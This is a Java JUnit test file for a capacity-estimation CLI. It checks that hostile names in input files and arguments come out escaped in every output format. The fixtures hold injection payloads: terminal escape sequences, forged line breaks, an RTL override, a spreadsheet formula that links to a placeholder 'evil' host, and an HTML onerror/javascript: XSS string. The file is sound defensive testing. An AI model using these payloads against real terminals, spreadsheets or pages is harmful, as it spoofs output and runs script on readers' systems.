package dev.envelope.cli;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.dataformat.yaml.YAMLMapper;
import dev.envelope.CliRun;
import dev.envelope.OutputSafety;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * A requirements file written to attack whoever reads envelope's output: names and values with ESC
 * (terminal escape sequences), CR (a line that overwrites the one before), LF (a forged line), BEL,
 * tab, U+202E (right-to-left override) and U+2028 (line separator), a workload named as a
 * spreadsheet formula and one named as HTML and a javascript: link. Every command that reads a
 * file, in every format, shows them escaped (docs/errors.md, "Control characters").
 */
class HostileTextCliTest {
  /**
   * YAML's double-quoted escapes: \e is ESC, \a BEL, \r CR, \n LF, \t tab. FORGED follows each line
   * break and TABBED the tab, so that a raw one would start a line or a cell with them.
   */
  static final String HOSTILE = """
      name: "Shop\\e[2J\\u202e\\rFORGED"
      users: {dau: 8M to 12M}
      workloads:
        "post\\e]0;title\\a\\nFORGED\\u2028x":
          writes_per_user: 2/day
          payload: 1KB
          read_write_ratio: 10:1
        "=HYPERLINK(\\"http://evil/\\"&A1)":
          writes: 5/s
          payload: 1KB
        "<img src=x onerror=alert(1)>[click](javascript:alert(1))|x":
          writes: 1/s
          payload: 1KB
      capacity: {server_qps: 1000}
      availability:
        target: 99.9%
        components:
          - {name: "db\\e[31m\\tTABBED\\u202e", replicas: 1, availability: 99.9%}
      scenarios:
        "viral\\e[2J\\r\\nFORGED\\u202e": {users.dau: 20M}
      budgets:
        traffic.total.peak_per_second: "< 1"
      """;
  static final String POST = "post\u001b]0;title\u0007\nFORGED\u2028x";
  static final String SCENARIO = "viral\u001b[2J\r\nFORGED\u202e";
  static final String FORMULA = "=HYPERLINK(\"http://evil/\"&A1)";
  static final List<String> FORMATS = List.of("table", "json", "yaml", "markdown", "csv", "mermaid", "dot");
  /** The commands that draw a sketch ({@code -o mermaid}, {@code -o dot}) of one scenario. */
  static final Set<String> SKETCHES = Set.of("estimate", "qps", "storage", "bandwidth", "shards");

  @TempDir Path dir;
  String file;
  String changed;

  @BeforeEach
  void files() throws IOException {
    file = write("hostile.yaml", HOSTILE).toString();
    changed = write("changed.yaml", HOSTILE.replace("payload: 1KB", "payload: 2KB")).toString();
  }

  Path write(String name, String text) throws IOException {
    Path p = dir.resolve(name);
    Files.writeString(p, text, UTF_8);
    return p;
  }

  /** Each command that reads a file, as it is run; exit codes 0, or 1 for the failed budget of check. */
  List<List<String>> commands() {
    return List.of(
        List.of("estimate", file), List.of("qps", file), List.of("storage", file), List.of("bandwidth", file),
        List.of("shards", file), List.of("estimate", file, "--scenarios"), List.of("estimate", file, "--scenario", SCENARIO),
        List.of("estimate", file, "--set", "name=Set\u001b[2J\rFORGED\u202e"),
        List.of("estimate", file, "--explain"), List.of("estimate", file, "--napkin"),
        List.of("estimate", file, "--histogram", "capacity.servers"), List.of("explain", file),
        List.of("validate", file), List.of("check", file),
        List.of("sweep", file, "--vary", "users.dau=1M,2M", "--show", "traffic.total.peak_per_second"),
        List.of("sweep", file, "--vary", "name=a\u001b[2J,=b\u202e"),
        List.of("diff", file, changed), List.of("sensitivity", file), List.of("sla", file));
  }

  @Test
  void noRawControlCharacterReachesStdoutOrStderrInAnyCommandOrFormat() {
    int runs = 0;
    for (List<String> command : commands()) {
      for (String format : FORMATS) {
        List<String> args = new ArrayList<>(command);
        args.addAll(List.of("-o", format));
        CliRun run = CliRun.run(args.toArray(String[]::new));
        // What envelope refuses: validate prints no Markdown or CSV, --explain no CSV.
        boolean sketch = Set.of("mermaid", "dot").contains(format);
        boolean refused = (command.get(0).equals("validate") && Set.of("markdown", "csv").contains(format))
            || (command.contains("--explain") && format.equals("csv"))
            || (sketch && (!SKETCHES.contains(command.get(0)) || command.stream().anyMatch(
                a -> Set.of("--scenarios", "--explain", "--napkin", "--histogram").contains(a))));
        int expected = refused ? 2 : command.get(0).equals("check") ? 1 : 0;
        assertThat(run.exitCode()).as(run.toString()).isEqualTo(expected);
        if (!refused) {
          assertThat(run.out()).as(run.toString()).isNotBlank();
        }
        OutputSafety.assertNoRawControls(run);
        OutputSafety.assertMarkerEscaped(run, "FORGED");
        OutputSafety.assertMarkerEscaped(run, "TABBED");
        if (format.equals("csv")) {
          OutputSafety.assertNoFormula(run);
        }
        if (format.equals("markdown")) {
          OutputSafety.assertSafeMarkdown(run);
        }
        runs++;
      }
    }
    assertThat(runs).isEqualTo(commands().size() * FORMATS.size());
  }

  @Test
  void aTableShowsTheNamesEscapedOnTheirOwnRow() {
    CliRun run = CliRun.run("qps", file);
    assertThat(run.out()).contains("Shop\\u001b[2J\\u202e\\u000dFORGED (" + file + ")")
        .contains("  post\\u001b]0;title\\u0007\\u000aFORGED\\u2028x writes ")
        .contains("  =HYPERLINK(\"http://evil/\"&A1) writes ");
  }

  @Test
  void colourAddsOnlyItsOwnEscapeSequences() {
    // A terminal without NO_COLOR: bold titles and dim notes, and nothing else raw.
    CliRun run = CliRun.run("", java.util.Map.of(), true, "qps", file);
    assertThat(run.out()).contains("\u001b[1mTraffic\u001b[0m");
    String plain = run.out().replace("\u001b[1m", "").replace("\u001b[2m", "").replace("\u001b[0m", "");
    OutputSafety.assertNoRawControls(plain, run.toString());
    assertThat(plain).isEqualTo(CliRun.run("qps", file).out());
  }

  @Test
  void warningsOnStderrShowTheComponentNameEscaped() {
    CliRun run = CliRun.run("estimate", file);
    assertThat(run.err()).contains(file + ":17:3: warning: availability.components.0: db\\u001b[31m\\u0009TABBED\\u202e"
        + " is a single point of failure");
  }

  @Test
  void csvNeutralisesFormulasAndKeepsNegativeNumbers() {
    CliRun estimate = CliRun.run("estimate", file, "-o", "csv");
    // The quote mark goes inside the quoted field; the field's own quotes are doubled (RFC 4180).
    assertThat(estimate.out()).contains("workloads,writes.per_day,\"'=HYPERLINK(\"\"http://evil/\"\"&A1)\",432000,count");
    assertThat(OutputSafety.csv(estimate.out())).anySatisfy(r -> assertThat(r).contains("'" + FORMULA));

    // The budget "< 1" on a peak of hundreds per second fails: its margin is a negative number.
    CliRun check = CliRun.run("check", file, "-o", "csv");
    assertThat(check.exitCode()).as(check.toString()).isEqualTo(1);
    List<List<String>> records = OutputSafety.csv(check.out());
    assertThat(records).anySatisfy(r -> {
      assertThat(r.get(1)).isEqualTo("0.margin");
      assertThat(r.get(3)).matches("-\\d+(\\.\\d+)?");
    });
  }

  @Test
  void markdownEscapesHtmlLinksAndPipes() {
    CliRun run = CliRun.run("qps", file, "-o", "markdown");
    assertThat(run.out())
        .contains("| &lt;img src=x onerror=alert(1)&gt;\\[click\\](javascript:alert(1))\\|x writes |")
        .contains("| '=HYPERLINK(\"http://evil/\"&amp;A1) writes |")
        .contains("| post\\\\u001b\\]0;title\\\\u0007\\\\u000aFORGED\\\\u2028x writes |");
    OutputSafety.assertSafeMarkdown(run);
  }

  @Test
  void jsonAndYamlCarryTheNamesExactlyWithEveryControlEscaped() throws IOException {
    CliRun json = CliRun.run("estimate", file, "--scenarios", "-o", "json");
    CliRun yaml = CliRun.run("estimate", file, "--scenarios", "-o", "yaml");
    for (CliRun run : List.of(json, yaml)) {
      OutputSafety.assertNoRawControls(run);
      JsonNode tree = (run == json ? new ObjectMapper() : new YAMLMapper()).readTree(run.out());
      assertThat(tree.get("scenarios").fieldNames()).toIterable().containsExactly("base", SCENARIO);
      assertThat(tree.get("scenarios").get("base").get("workloads").fieldNames()).toIterable()
          .containsExactly(POST, FORMULA, "<img src=x onerror=alert(1)>[click](javascript:alert(1))|x");
      assertThat(tree.get("scenarios").get("base").get("name").asText()).isEqualTo("Shop\u001b[2J\u202e\rFORGED");
    }
    // RFC 8259 escapes for C0; U+202E and U+2028 as \\u too.
    assertThat(json.out()).contains("\"post\\u001b]0;title\\u0007\\nFORGED\\u2028x\": {");
    assertThat(yaml.out()).contains("\"post\\u001b]0;title\\u0007\\nFORGED\\u2028x\":");
  }

  @Test
  void errorMessagesQuoteBadValuesAndKeysEscaped() throws IOException {
    Path bad = write("bad.yaml", """
        workloads:
          "w\\e[2J":
            writes: "1\\e[2J\\r\\u202e/s"
            "paylo\\nd": 1KB
        """);
    CliRun run = CliRun.run("estimate", bad.toString());
    assertThat(run.exitCode()).as(run.toString()).isEqualTo(3);
    assertThat(run.err().lines()).containsExactly(
        bad + ":3:13: workloads.w\\u001b[2J.writes: not a count (got '1\\u001b[2J\\u000d\\u202e/s'); expected a rate"
            + " such as 2/day or 500M/month, with the unit /s, /min, /h, /day, /week, /month or /year",
        bad + ":4:5: workloads.w\\u001b[2J.paylo\\u000ad: unknown key (did you mean 'payload'?); expected one of:"
            + " writes_per_user, writes, reads_per_user, reads, read_write_ratio, payload, read_size, peak_factor,"
            + " latency, service_cv, fanout, call_latency, hedge_after, stream, connections, fanout_on_write,"
            + " cdn, cache");
  }

  @Test
  void commandLineArgumentsAreEscapedInMessages() {
    String hostile = "x\u001b[2J\r\nFORGED\u202e\u2028\u0007";
    List<List<String>> lines = List.of(List.of(hostile), List.of("help", hostile), List.of("estimate", hostile + ".yaml"),
        List.of("estimate", file, "-o", hostile), List.of("estimate", file, "--set", hostile),
        List.of("estimate", file, "--set", "users.dau=" + hostile), List.of("estimate", file, "--scenario", hostile),
        List.of("estimate", file, "--get", hostile), List.of("explain", file, hostile), List.of("sla", hostile),
        List.of("sla", "--calendar", hostile), List.of("keyspace", "--alphabet", hostile, "--length", "7"),
        List.of("reference", hostile), List.of("init", "--example", hostile), List.of("init", dir.resolve(hostile)
            .resolve("x.yaml").toString()), List.of("sweep", file, "--vary", hostile),
        List.of("diff", file, file, "--fail-over", hostile), List.of("estimate", file, "--" + hostile),
        List.of("validate", hostile));
    for (List<String> args : lines) {
      CliRun run = CliRun.run(args.toArray(String[]::new));
      assertThat(run.exitCode()).as(run.toString()).isIn(2, 3, 4);
      assertThat(run.err()).as(run.toString()).contains("x\\u001b[2J\\u000d\\u000aFORGED\\u202e\\u2028\\u0007");
      OutputSafety.assertNoRawControls(run);
      OutputSafety.assertMarkerEscaped(run, "FORGED");
    }
  }

  @Test
  void getPrintsOneEscapedLinePerValue() {
    CliRun one = CliRun.run("estimate", file, "--get", "name");
    assertThat(one.out()).isEqualTo("Shop\\u001b[2J\\u202e\\u000dFORGED\n");
    CliRun all = CliRun.run("estimate", file, "--scenarios", "--get", "users.dau");
    // The base's users.dau is the median of its range; the scenario's is 20M.
    assertThat(all.out()).matches("base\t[0-9.]+\nviral\\\\u001b\\[2J\\\\u000d\\\\u000aFORGED\\\\u202e\t20000000\n");
  }
}
